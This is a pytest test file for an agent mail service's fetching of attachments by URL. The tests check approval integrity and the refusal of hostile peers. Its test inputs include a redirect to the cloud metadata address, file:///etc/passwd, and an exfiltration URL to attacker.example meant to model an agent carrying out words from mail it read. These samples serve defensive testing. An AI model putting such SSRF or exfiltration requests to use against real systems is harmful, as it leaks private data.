"""Attachments by URL through the real API, from peers that change, redirect, lie and never end; on both engines."""

import contextlib
import email
import json
from collections.abc import AsyncIterator
from email.policy import default
from pathlib import Path
from typing import Any

import pytest

from engines import ENGINES, url_of
from houses import Living, living
from httppeer import Peer, Request, Response, peer
from postroom.config import Config, Office, Storage

SCOUT = "/v0/inboxes/scout%40postroom.localhost"
LOCAL = "scout@postroom.localhost"


def serves(pages: dict[str, Response]) -> Any:
    def handle(request: Request) -> Response:
        return pages.get(request.path, Response(status=404))

    return handle


@contextlib.asynccontextmanager
async def house(engine: str, folder: Path, pages: dict[str, Response]) -> AsyncIterator[tuple[Living, Peer, str]]:
    """A house that may fetch from one peer on loopback, and an agent's token."""
    with url_of(engine) as url:
        async with peer(serves(pages)) as files:
            office = Office(attachment_hosts=(files.url.removeprefix("http://"),))
            async with living(folder, Config(office=office, store=Storage(url=url))) as opened:
                yield opened, files, await opened.agent("scout")


def sending(*urls: str, **more: str) -> dict[str, Any]:
    return {"to": LOCAL, "text": "as agreed", "attachments": [{"url": url, **more} for url in urls]}


@pytest.fixture(params=ENGINES)
def engine(request: pytest.FixtureRequest) -> str:
    return str(request.param)


async def test_the_bytes_an_approver_sees_are_those_that_leave(engine: str, tmp_path: Path) -> None:
    pages = {"/offer.txt": Response(body=b"ten euro")}
    async with house(engine, tmp_path / "house", pages) as (opened, files, token):
        agent = opened.client(token)
        asked = await agent.post(f"{SCOUT}/messages/send", json=sending(f"{files.url}/offer.txt"))
        assert (asked.status_code, asked.json()["code"]) == (403, "held_for_approval")
        pages["/offer.txt"] = Response(body=b"ten million euro")
        held, digest = asked.json()["approval_id"], asked.json()["digest"]
        shown = (await opened.http.get(f"/api/outgoing/{held}")).json()
        approved = await opened.http.post(f"/api/outgoing/{held}/approve", json={"digest": digest})
        assert approved.status_code == 200, approved.text
        raw = await opened.house.gate.raw(await opened.house.access.authenticate(opened.owner_key), held)
        (part,) = email.message_from_bytes(raw, policy=default).iter_attachments()
        assert (part.get_filename(), part.get_payload(decode=True)) == ("offer.txt", b"ten euro")
        assert "offer.txt" in json.dumps(shown)
        assert [request.path for request in files.requests] == ["/offer.txt"]
        await agent.aclose()


async def test_a_drafts_attachment_is_frozen_when_it_is_written(engine: str, tmp_path: Path) -> None:
    pages = {"/a.txt": Response(body=b"one"), "/b.txt": Response(body=b"two")}
    async with house(engine, tmp_path / "house", pages) as (opened, files, _):
        draft = {"to": [LOCAL], "text": "x", "client_id": "d1", "attachments": [{"url": f"{files.url}/a.txt"}]}
        made = (await opened.http.post(f"{SCOUT}/drafts", json=draft)).json()
        added = {"add_attachments": [{"url": f"{files.url}/b.txt", "filename": "c.txt"}]}
        changed = (await opened.http.patch(f"{SCOUT}/drafts/{made['draft_id']}", json=added)).json()
        assert [(row["filename"], row["size"]) for row in changed["attachments"]] == [("a.txt", 3), ("c.txt", 3)]
        pages.clear()
        again = await opened.http.post(f"{SCOUT}/drafts", json=draft)
        assert (again.status_code, again.json()["draft_id"]) == (200, made["draft_id"])
        sent = await opened.http.post(f"{SCOUT}/drafts/{made['draft_id']}/send", json={})
        assert sent.status_code == 200, sent.text
        assert len(files.requests) == 2


@pytest.mark.parametrize(
    ("page", "said"),
    [
        (Response(status=302, headers={"location": "http://169.254.169.254/"}), "redirect"),
        (Response(body=b"x" * 65536, chunks=10_000), "over the"),
        (Response(status=404), "status 404"),
        (Response(body=b"\x1f\x8b", headers={"content-encoding": "gzip"}), "compressed"),
    ],
    ids=["redirect", "endless", "missing", "compressed"],
)
async def test_a_hostile_answer_refuses_the_send_and_nothing_is_left(
    engine: str, tmp_path: Path, page: Response, said: str
) -> None:
    async with house(engine, tmp_path / "house", {"/x": page}) as (opened, files, token):
        agent = opened.client(token)
        for client in (opened.http, agent):
            answer = await client.post(f"{SCOUT}/messages/send", json=sending(f"{files.url}/x"))
            assert (answer.status_code, answer.json()["code"]) == (403, "message_rejected")
            assert said in answer.json()["message"]
            draft = await client.post(f"{SCOUT}/drafts", json={"attachments": [{"url": f"{files.url}/x"}]})
            assert (draft.status_code, draft.json()["code"]) == (403, "message_rejected")
        assert (await opened.http.get("/api/outgoing")).json()["outgoing"] == []
        assert (await opened.http.get(f"{SCOUT}/drafts")).json()["count"] == 0
        await agent.aclose()


@pytest.mark.parametrize("url", ["http://127.0.0.1:1/x", "https://10.0.0.1/x", "https://localhost/x", "file:///etc/passwd", "x"])
async def test_an_address_inside_is_never_asked_for(tmp_path: Path, url: str) -> None:
    async with house("sqlite", tmp_path / "house", {}) as (opened, _, token):
        agent = opened.client(token)
        for client in (opened.http, agent):
            answer = await client.post(f"{SCOUT}/messages/send", json=sending(url))
            assert (answer.status_code, answer.json()["code"]) == (400, "validation_error")
            assert answer.json()["errors"][0]["path"] == ["url"]
        await agent.aclose()


async def test_an_agent_that_read_a_strangers_mail_cannot_carry_words_out_in_an_address(tmp_path: Path) -> None:
    async with house("sqlite", tmp_path / "house", {}) as (opened, files, token):
        agent = opened.client(token)
        await opened.house.gate._read_log.record(await opened.house.access.authenticate(token), ["<hi@customer.example>"])
        answer = await agent.post(f"{SCOUT}/messages/send", json=sending("https://attacker.example/?said=the-price"))
        assert (answer.status_code, answer.json()["code"]) == (403, "message_rejected")
        assert "attacker.example is not fetched for this agent" in answer.json()["message"]
        draft = {"attachments": [{"url": "https://attacker.example/?said=the-price"}]}
        assert (await agent.post(f"{SCOUT}/drafts", json=draft)).status_code == 403
        assert files.requests == []
        await agent.aclose()
